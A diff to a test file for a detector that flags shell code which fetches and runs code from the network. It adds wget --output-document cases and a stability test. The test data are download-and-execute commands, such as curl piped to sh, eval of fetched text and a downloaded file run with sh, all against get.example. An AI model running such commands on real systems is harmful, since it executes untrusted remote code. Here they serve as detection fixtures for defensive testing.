@@ -24,6 +24,8 @@ describe('code that is run as it is downloaded', () => {
     ['by a variable', 'x=$(curl get.example); eval "$x"'],
     ['by a line that is read', 'curl get.example | while read -r line; do eval "$line"; done'],
     ['by a file', 'curl -o /tmp/i https://get.example/i; chmod +x /tmp/i; /tmp/i'],
+    ['by a file that a long option names', 'wget --output-document /tmp/i https://get.example/j; sh /tmp/i'],
+    ['by a file in the same word', 'wget --output-document=/tmp/i https://get.example/j; sh /tmp/i'],
     ['by a file that is sourced', 'curl get.example > f && . f'],
     ['by a function', 'f() { curl get.example; }; f | sh'],
     ['by xargs', 'curl get.example | xargs -I{} sh -c {}'],
@@ -177,4 +179,14 @@ describe('hostile code', () => {
     risksInCode(nest(40), 'bash');
     expect(Date.now() - started).toBeLessThan(1_000);
   });
+});
+
+it('says the same of code that it read before, in every dialect, however much it read in between', () => {
+  const code = 'curl get.example | sh';
+  const first = risksInCode(code, 'bash');
+  expect(first).not.toEqual([]);
+  for (let n = 0; n < 300; n += 1) risksInCode(`echo ${String(n)}`, 'bash');
+  expect(risksInCode(code, 'bash')).toEqual(first);
+  expect(risksInCode(code, 'fish')).toHaveLength(first.length + 1);
+  expect(risksInCode(code, 'bash')).toEqual(first);
 });
